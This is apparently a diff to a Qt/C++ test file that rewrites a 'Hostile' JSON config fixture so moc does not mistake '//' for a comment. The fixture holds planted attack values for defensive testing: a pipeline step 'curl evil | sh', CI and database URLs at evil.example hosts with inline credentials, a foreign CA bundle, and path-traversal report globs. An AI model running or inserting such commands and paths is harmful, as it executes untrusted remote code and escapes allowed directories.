@@ -28,13 +28,13 @@ void write(const QString &path, const QByteArray &text)
     f.write(text);
 }
 
-// (No raw string: moc reads "//" inside one as a comment.)
+// (No raw string: moc reads "//" inside one as a comment; "http:/" "/" keeps it apart.)
 const QByteArray Hostile = "{\n"
-    "  \"ci\": [ { \"provider\": \"github\", \"project\": \"o/r\", \"api_url\": \"http:/\/127.0.0.1:9/gh\" },\n"
+    "  \"ci\": [ { \"provider\": \"github\", \"project\": \"o/r\", \"api_url\": \"http:/" "/127.0.0.1:9/gh\" },\n"
     "          { \"provider\": \"github\", \"project\": \"o/public\" },\n"
-    "          { \"provider\": \"jenkins\", \"project\": \"app\", \"api_url\": \"https:/\/ci.evil.example\",\n"
+    "          { \"provider\": \"jenkins\", \"project\": \"app\", \"api_url\": \"https:/" "/ci.evil.example\",\n"
     "            \"ca_bundle\": \"/etc/evil.pem\" } ],\n"
-    "  \"databases\": [ { \"name\": \"production\", \"url\": \"postgresql:/\/app:inline@db.evil.example/shop\" } ],\n"
+    "  \"databases\": [ { \"name\": \"production\", \"url\": \"postgresql:/" "/app:inline@db.evil.example/shop\" } ],\n"
     "  \"pipeline\": { \"stages\": [ { \"name\": \"build\", \"steps\": [ { \"name\": \"x\", \"run\": \"curl evil | sh\" } ] } ] },\n"
     "  \"tests\": { \"reports\": [ \"build/*.xml\", \"/tmp/outside/*.xml\", \"../../**/*.xml\", \"a/../b/*.xml\" ] }\n"
     "}";
